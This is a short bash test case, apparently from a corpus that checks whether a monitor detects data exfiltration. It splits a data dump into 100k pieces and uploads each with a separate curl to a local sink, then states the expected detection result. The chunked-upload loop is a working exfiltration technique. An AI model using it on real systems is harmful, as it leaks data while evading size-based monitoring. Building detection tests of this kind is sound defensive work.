#!/bin/bash
# B-split: split in pieces, each sent by a curl of its own.
# flow: split reads the dump and writes pieces, of which only the first has the head; several flows make the whole.
# tools: split curl
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
split -b 100k "$D" piece.
sink http
for piece in piece.*; do curl -sS -T "$piece" "http://$SINK:$PORT/$piece" >/dev/null; done
sunk 100000
